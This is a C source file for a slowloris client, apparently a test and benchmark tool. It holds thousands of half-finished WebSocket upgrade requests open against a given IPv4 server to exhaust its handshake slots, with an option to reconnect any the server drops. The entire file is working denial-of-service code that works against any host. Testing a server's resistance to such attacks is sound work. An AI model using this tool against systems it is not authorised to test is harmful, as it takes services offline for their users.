/*
 * slowloris.c - opens many connections that each send half of a WebSocket
 * upgrade request and then say nothing more: the "slowloris" client that
 * holds a server's handshake slots without ever finishing one.
 *
 *   slowloris HOST:PORT N [--path P] [--reconnect] [--connect-timeout-s S]
 *
 * It connects N sockets (non-blocking, at most CONNECT_WINDOW connecting at
 * once), sends "GET P HTTP/1.1" and a Host header on each (no blank line, so
 * the head never ends) and prints "open K" on stdout once each of the N
 * has connected and sent its half request (K: how many of them are still
 * open then; the server may have closed some already), or after
 * --connect-timeout-s (default 60) if not all got that far.  Then it holds them until stdin reaches its end or it gets
 * SIGTERM/SIGINT, watching for the server closing them; with --reconnect a
 * socket the server closed is opened again at once (the attack keeps its N
 * connections), without it it stays closed.  Last line on stdout:
 * "closed_by_server C reconnects R open K".
 *
 * Plain POSIX sockets, no dependency: a test and bench tool.  It raises its
 * own descriptor limit (RLIMIT_NOFILE soft to hard) and fails with a clear
 * message if N does not fit.
 */
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_STALLERS 60000u       /* sockets one run may hold */
#define CONNECT_WINDOW 512u       /* sockets connecting at once (the listen backlog is finite) */
#define FD_HEADROOM 16u           /* descriptors beyond the stallers (stdio, poll) */
#define DEFAULT_CONNECT_TIMEOUT_S 60

typedef enum sstate { S_IDLE = 0, S_CONNECTING, S_OPEN } sstate;

typedef struct staller {
    int fd;        /* the socket, -1 when none */
    sstate st;     /* progress */
} staller;

static volatile sig_atomic_t g_stop;

static void on_signal(int sig)
{
    (void)sig;
    g_stop = 1;
}

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void usage(void)
{
    fprintf(stderr, "usage: slowloris HOST:PORT N [--path P] [--reconnect] [--connect-timeout-s S]\n"
                    "  N: 1..%u connections; HOST an IPv4 address\n", MAX_STALLERS);
}

/* Starts a non-blocking connect; the socket or -1. */
static int start_connect(const struct sockaddr_in *sa)
{
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (fd < 0)
        return -1;
    if (connect(fd, (const struct sockaddr *)sa, sizeof *sa) != 0 && errno != EINPROGRESS) {
        close(fd);
        return -1;
    }
    return fd;
}

int main(int argc, char **argv)
{
    if (argc < 3) {
        usage();
        return 2;
    }
    const char *path = "/stocks";
    bool reconnect = false;
    double connect_timeout = DEFAULT_CONNECT_TIMEOUT_S;
    for (int i = 3; i < argc; i++) {
        if (!strcmp(argv[i], "--path") && i + 1 < argc)
            path = argv[++i];
        else if (!strcmp(argv[i], "--reconnect"))
            reconnect = true;
        else if (!strcmp(argv[i], "--connect-timeout-s") && i + 1 < argc)
            connect_timeout = atof(argv[++i]);
        else {
            usage();
            return 2;
        }
    }
    char host[64];
    const char *colon = strrchr(argv[1], ':');
    if (!colon || (size_t)(colon - argv[1]) >= sizeof host) {
        usage();
        return 2;
    }
    memcpy(host, argv[1], (size_t)(colon - argv[1]));
    host[colon - argv[1]] = '\0';
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(colon + 1))};
    char *end;
    unsigned long n = strtoul(argv[2], &end, 10);
    if (inet_pton(AF_INET, host, &sa.sin_addr) != 1 || *end || n < 1 || n > MAX_STALLERS) {
        usage();
        return 2;
    }
    struct rlimit rl;
    if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < rl.rlim_max) {
        rl.rlim_cur = rl.rlim_max;
        setrlimit(RLIMIT_NOFILE, &rl);
    }
    if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < n + FD_HEADROOM) {
        fprintf(stderr, "slowloris: %lu connections need %lu descriptors; the limit is %llu\n", n,
                n + FD_HEADROOM, (unsigned long long)rl.rlim_cur);
        return 1;
    }
    char req[512];
    int reqlen = snprintf(req, sizeof req, "GET %s HTTP/1.1\r\nHost: %s\r\n", path, argv[1]);
    staller *s = calloc(n, sizeof *s);
    struct pollfd *pfd = calloc(n + 1, sizeof *pfd);
    size_t *idx = calloc(n + 1, sizeof *idx);
    if (!s || !pfd || !idx) {
        fprintf(stderr, "slowloris: out of memory\n");
        return 1;
    }
    for (size_t i = 0; i < n; i++)
        s[i].fd = -1;
    struct sigaction act = {.sa_handler = on_signal};
    sigaction(SIGTERM, &act, NULL);
    sigaction(SIGINT, &act, NULL);
    signal(SIGPIPE, SIG_IGN);

    unsigned long open_count = 0, connecting = 0, closed_by_server = 0, reconnects = 0, launched = 0;
    bool announced = false, stdin_open = true;
    double t0 = now_s();
    size_t next_idle = 0; /* the first staller that may be idle */
    while (!g_stop) {
        /* start connects, at most CONNECT_WINDOW at once */
        for (size_t i = next_idle; i < n && connecting < CONNECT_WINDOW; i++) {
            if (s[i].st != S_IDLE)
                continue;
            if (s[i].fd == -2 && !reconnect)
                continue; /* closed by the server: stays closed */
            if (s[i].fd == -2)
                reconnects++;
            s[i].fd = start_connect(&sa);
            if (s[i].fd < 0) {
                fprintf(stderr, "slowloris: socket/connect: %s\n", strerror(errno));
                g_stop = 1;
                break;
            }
            s[i].st = S_CONNECTING;
            connecting++;
        }
        if (!announced && (launched >= n || now_s() - t0 > connect_timeout)) {
            printf("open %lu\n", open_count);
            fflush(stdout);
            announced = true;
        }
        size_t np = 0;
        for (size_t i = 0; i < n; i++) {
            if (s[i].st == S_IDLE)
                continue;
            pfd[np].fd = s[i].fd;
            pfd[np].events = s[i].st == S_CONNECTING ? POLLOUT : POLLIN;
            pfd[np].revents = 0;
            idx[np++] = i;
        }
        if (stdin_open && announced) {
            pfd[np].fd = 0;
            pfd[np].events = POLLIN;
            pfd[np].revents = 0;
            idx[np++] = (size_t)-1;
        }
        int rc = poll(pfd, np, 100);
        if (rc < 0 && errno != EINTR) {
            fprintf(stderr, "slowloris: poll: %s\n", strerror(errno));
            break;
        }
        for (size_t k = 0; rc > 0 && k < np; k++) {
            if (!pfd[k].revents)
                continue;
            if (idx[k] == (size_t)-1) {
                char b[256];
                if (read(0, b, sizeof b) <= 0)
                    g_stop = 1; /* stdin ended: the run is over */
                continue;
            }
            staller *x = &s[idx[k]];
            if (x->st == S_CONNECTING) {
                int err = 0;
                socklen_t el = sizeof err;
                getsockopt(x->fd, SOL_SOCKET, SO_ERROR, &err, &el);
                connecting--;
                if (err || send(x->fd, req, (size_t)reqlen, MSG_NOSIGNAL) != reqlen) {
                    close(x->fd); /* refused or reset at once: counts as closed by the server */
                    x->fd = -2;
                    x->st = S_IDLE;
                    closed_by_server++;
                    launched++;
                    next_idle = 0;
                    continue;
                }
                x->st = S_OPEN;
                open_count++;
                launched++;
                continue;
            }
            char b[4096];
            ssize_t r = recv(x->fd, b, sizeof b, MSG_DONTWAIT);
            if (r > 0 || (r < 0 && (errno == EAGAIN || errno == EINTR)))
                continue; /* an answer (an HTTP error, say): the socket stays until closed */
            close(x->fd);
            x->fd = -2;
            x->st = S_IDLE;
            open_count--;
            closed_by_server++;
            next_idle = 0;
        }
    }
    for (size_t i = 0; i < n; i++)
        if (s[i].fd >= 0)
            close(s[i].fd);
    printf("closed_by_server %lu reconnects %lu open %lu\n", closed_by_server, reconnects, open_count);
    free(s);
    free(pfd);
    free(idx);
    return 0;
}
